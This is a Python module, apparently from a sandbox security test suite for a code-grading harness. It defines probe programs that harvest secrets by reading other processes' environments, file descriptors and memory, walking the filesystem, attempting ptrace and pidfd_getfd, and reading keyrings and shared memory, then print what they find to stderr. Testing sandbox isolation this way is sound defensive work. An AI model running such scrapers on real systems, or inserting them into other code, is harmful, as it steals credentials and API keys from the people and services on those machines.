"""Hostile programs that look everywhere a sandboxed program can for the worker's secrets.

Each program scans what it reads for anything shaped like a secret (`NAME=value`, `scheme://...`, `sk-...`)
that is not its own environment, writes every such string to stderr as `FOUND <where>: <string>`, then
`tried N ran <NAME>` and exits 1: under code_gen that is a runtime error, whose stderr lands in the
score details (the channel the original leak used). `ran <NAME>` is the upper-cased program name, which
the source never contains, so finding it downstream proves the output travelled.

The programs also run under code_gen's harness, which makes the code the body of a function: no
`global`, and no top-level names that its star imports would matter for.
"""

from __future__ import annotations

_COMMON = r'''
import ctypes
import os
import re
import sys
import time

OWN = {f"{k}={v}" for k, v in os.environ.items()}
SHAPE = re.compile(rb"[A-Za-z_][A-Za-z0-9_]{2,}=[^\x00\s]{3,}|[a-z][a-z0-9+.-]*://[^\x00\s]{3,}|sk-[A-Za-z0-9_-]{6,}")
FOUND = {}
TRIED = [0]
LIBC = ctypes.CDLL(None, use_errno=True)


def scan(where, data):
    TRIED[0] += 1
    for m in SHAPE.findall(data or b""):
        s = m.decode("latin-1")
        if s not in OWN and s not in FOUND:
            FOUND[s] = where


def attempt(where, fn):
    try:
        scan(where, fn())
    except Exception as e:
        TRIED[0] += 1
        sys.stdout.write(f"{where}: {type(e).__name__}\n")


def read(path, limit=1 << 20):
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        data = b""
        while len(data) < limit and (chunk := os.read(fd, limit - len(data))):
            data += chunk
        return data
    finally:
        os.close(fd)


def pids():
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())


def finish(name):
    for s, where in FOUND.items():
        sys.stderr.write(f"FOUND {where}: {s[:300]}\n")
    sys.stderr.write(f"tried {TRIED[0]} ran {name.upper()}\n")
    sys.stdout.flush()
    sys.stderr.flush()
    os._exit(1)

'''

_BODIES: dict[str, str] = {
    # Environments and command lines of every visible process and thread, by every path to them.
    "proc_environ": r'''
for pid in pids():
    for task in os.listdir(f"/proc/{pid}/task"):
        for leaf in ("environ", "cmdline", "status", "auxv", "comm", "stat", "sched", "limits", "personality"):
            attempt(f"/proc/{pid}/task/{task}/{leaf}", lambda p=f"/proc/{pid}/task/{task}/{leaf}": read(p))
    for leaf in ("environ", "cmdline", "auxv", "stack", "syscall", "wchan", "cgroup", "mountinfo", "mounts"):
        attempt(f"/proc/{pid}/{leaf}", lambda p=f"/proc/{pid}/{leaf}": read(p))
for alias in ("/proc/self/../1/environ", "/proc/thread-self/../../1/environ", "/proc/1/task/1/environ"):
    attempt(alias, lambda a=alias: read(a))
attempt("os.environ", lambda: "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
finish("proc_environ")
''',
    # Every file descriptor of every process, through /proc: links, contents, fdinfo, mapped files.
    "proc_fds": r'''
for pid in pids():
    for kind in ("fd", "fdinfo", "map_files"):
        try:
            names = os.listdir(f"/proc/{pid}/{kind}")
        except OSError as e:
            sys.stdout.write(f"/proc/{pid}/{kind}: {type(e).__name__}\n")
            continue
        for n in names:
            path = f"/proc/{pid}/{kind}/{n}"
            attempt(path + " (link)", lambda p=path: os.readlink(p).encode())
            attempt(path, lambda p=path: read(p))
finish("proc_fds")
''',
    # Brute force the descriptor table: whatever the sandbox let through, stat, name and read it.
    "inherited_fds": r'''
import socket
import stat as st
opened = []
for fd in range(0, 1025):
    try:
        info = os.fstat(fd)
    except OSError:
        continue
    opened.append(fd)
    attempt(f"fd {fd} link", lambda f=fd: os.readlink(f"/proc/self/fd/{f}").encode())
    if st.S_ISSOCK(info.st_mode):
        def recv(f=fd):
            s = socket.socket(fileno=os.dup(f))
            s.setblocking(False)
            try:
                return s.recv(1 << 16)
            finally:
                s.close()
        attempt(f"fd {fd} recv", recv)
        continue
    def grab(f=fd):
        os.set_blocking(f, False)
        try:
            return os.pread(f, 1 << 20, 0)
        except OSError:
            return os.read(f, 1 << 20)
    attempt(f"fd {fd} read", grab)
sys.stdout.write(f"open fds: {opened}\n")
finish("inherited_fds")
''',
    # Process memory: every readable region of every other process, and this one's own stack (environ).
    "proc_mem": r'''
budget = [256 << 20]
me = os.getpid()
for pid in pids():
    try:
        maps = read(f"/proc/{pid}/maps", 1 << 22).decode().splitlines()
    except OSError as e:
        sys.stdout.write(f"/proc/{pid}/maps: {type(e).__name__}\n")
        maps = []
    regions = []
    for line in maps:
        parts = line.split()
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        if "r" in parts[1] and (pid != me or line.endswith("[stack]")):
            regions.append((lo, hi))
    if not regions:  # unreadable maps: guess at the usual places instead
        regions = [(0x400000, 0x800000), (0x7ffff0000000, 0x7ffffffff000)]
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError as e:
        sys.stdout.write(f"/proc/{pid}/mem: {type(e).__name__}\n")
        continue
    for lo, hi in regions:
        size = min(hi - lo, budget[0])
        if size <= 0:
            break
        budget[0] -= size
        attempt(f"/proc/{pid}/mem@{lo:x}", lambda f=fd, a=lo, n=size: os.pread(f, n, a))
    os.close(fd)
finish("proc_mem")
''',
    # Other processes' roots and working directories, and what is in them.
    "proc_root_cwd": r'''
for pid in pids():
    for kind in ("root", "cwd"):
        base = f"/proc/{pid}/{kind}"
        try:
            names = os.listdir(base)
        except OSError as e:
            sys.stdout.write(f"{base}: {type(e).__name__}\n")
            continue
        scan(base, " ".join(names).encode())
        for n in names:
            if os.path.isfile(f"{base}/{n}"):
                attempt(f"{base}/{n}", lambda p=f"{base}/{n}": read(p))
    for leaf in ("etc/passwd", "etc/hostname", "etc/environment", "root/.bashrc", "proc/1/environ"):
        attempt(f"/proc/{pid}/root/{leaf}", lambda p=f"/proc/{pid}/root/{leaf}": read(p))
finish("proc_root_cwd")
''',
    # Every readable file of the visible filesystem, /proc's system files and /sys.
    "filesystem": r'''
deadline = time.monotonic() + 4
files = 0
for top in ("/etc", "/tmp", "/sandbox", "/dev", "/run", "/var", "/home", "/root", "/opt", "/srv", "/mnt", "/work",
            "/sys", "/usr/local", "/usr/etc", "/usr/lib/python3", "/usr/share", "/usr/lib", "/usr/bin", "/"):
    for root, dirs, names in os.walk(top):
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "usr")]
        for n in names:
            path = os.path.join(root, n)
            if time.monotonic() > deadline or not os.path.isfile(path) or os.path.getsize(path) > (1 << 20):
                continue
            files += 1
            attempt(path, lambda p=path: read(p))
for path in ("/proc/self/mountinfo", "/proc/mounts", "/proc/cmdline", "/proc/keys", "/proc/key-users",
             "/proc/self/cgroup", "/proc/sys/kernel/hostname", "/proc/net/unix", "/proc/self/net/tcp",
             "/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/sysvipc/sem", "/proc/config.gz", "/proc/kcore",
             "/sys/fs/cgroup/memory/cgroup.procs", "/sys/kernel/debug/tracing/trace"):
    attempt(path, lambda p=path: read(p))
sys.stdout.write(f"files read: {files}\n")
finish("filesystem")
''',
    # Debugging interfaces: ptrace, process_vm_readv, pidfd_getfd. Each should fail; if one works, read.
    "ptrace": r'''
class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

LIBC.syscall.restype = ctypes.c_long
me = os.getpid()
for pid in [p for p in pids() if p != me] + [os.getppid()]:
    for name, request in (("PTRACE_ATTACH", 16), ("PTRACE_SEIZE", 0x4206)):
        rc = LIBC.ptrace(request, pid, 0, 0)
        sys.stdout.write(f"{name} {pid}: rc={rc} errno={ctypes.get_errno()}\n")
        if rc == 0:
            scan(f"{name} {pid}", b"PTRACE_ATTACHED=" + str(pid).encode())
    buf = ctypes.create_string_buffer(1 << 16)
    local, remote = IoVec(ctypes.cast(buf, ctypes.c_void_p), 1 << 16), IoVec(0x7ffffffde000, 1 << 16)
    n = LIBC.syscall(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)  # process_vm_readv
    sys.stdout.write(f"process_vm_readv {pid}: rc={n} errno={ctypes.get_errno()}\n")
    if n > 0:
        scan(f"process_vm_readv {pid}", buf.raw[:n])
    pidfd = LIBC.syscall(434, pid, 0)  # pidfd_open
    sys.stdout.write(f"pidfd_open {pid}: rc={pidfd} errno={ctypes.get_errno()}\n")
    if pidfd >= 0:
        for target in range(0, 64):
            got = LIBC.syscall(438, pidfd, target, 0)  # pidfd_getfd
            if got >= 0:
                attempt(f"pidfd_getfd {pid}/{target}", lambda f=got: os.pread(f, 1 << 20, 0))
                os.close(got)
        sys.stdout.write(f"pidfd_getfd {pid}: errno={ctypes.get_errno()}\n")
rc = LIBC.ptrace(0, 0, 0, 0)  # PTRACE_TRACEME
sys.stdout.write(f"PTRACE_TRACEME: rc={rc} errno={ctypes.get_errno()}\n")
finish("ptrace")
''',
    # Kernel keyrings, SysV IPC segments left by others, POSIX shm and queues, abstract unix sockets.
    "keyring_ipc": r'''
import socket
LIBC.syscall.restype = ctypes.c_long
buf = ctypes.create_string_buffer(1 << 16)
for ring in (-1, -2, -3, -4, -5, -6, -7):  # thread, process, session, user, user-session, group, request-key
    n = LIBC.syscall(250, 11, ring, buf, 1 << 16)  # keyctl(KEYCTL_READ)
    sys.stdout.write(f"keyctl read {ring}: rc={n} errno={ctypes.get_errno()}\n")
    if n > 0:
        scan(f"keyring {ring}", buf.raw[:n])
for shmid in range(0, 256):
    addr = LIBC.syscall(30, shmid, 0, 0o10000)  # shmat(id, NULL, SHM_RDONLY)
    if addr not in (-1, 0):
        scan(f"shm {shmid}", ctypes.string_at(addr, 1 << 16))
sys.stdout.write(f"shmat: errno={ctypes.get_errno()}\n")
for top in ("/dev/shm", "/dev/mqueue", "/run/user"):
    try:
        for n in os.listdir(top):
            attempt(f"{top}/{n}", lambda p=f"{top}/{n}": read(p))
    except OSError as e:
        sys.stdout.write(f"{top}: {type(e).__name__}\n")
try:
    lines = read("/proc/net/unix").decode().splitlines()[1:]
except OSError:
    lines = []
for line in lines:
    path = line.split()[-1] if len(line.split()) > 7 else ""
    if path.startswith("@") or path.startswith("/"):
        def talk(p=path):
            s = socket.socket(socket.AF_UNIX)
            s.settimeout(0.2)
            try:
                s.connect("\0" + p[1:] if p.startswith("@") else p)
                return s.recv(1 << 16)
            finally:
                s.close()
        attempt(f"unix {path}", talk)
finish("keyring_ipc")
''',
}

PROGRAMS: dict[str, str] = {name: _COMMON + body for name, body in _BODIES.items()}


def ran_marker(name: str) -> str:
    """The line a program writes when it finished its search."""
    return f"ran {name.upper()}"
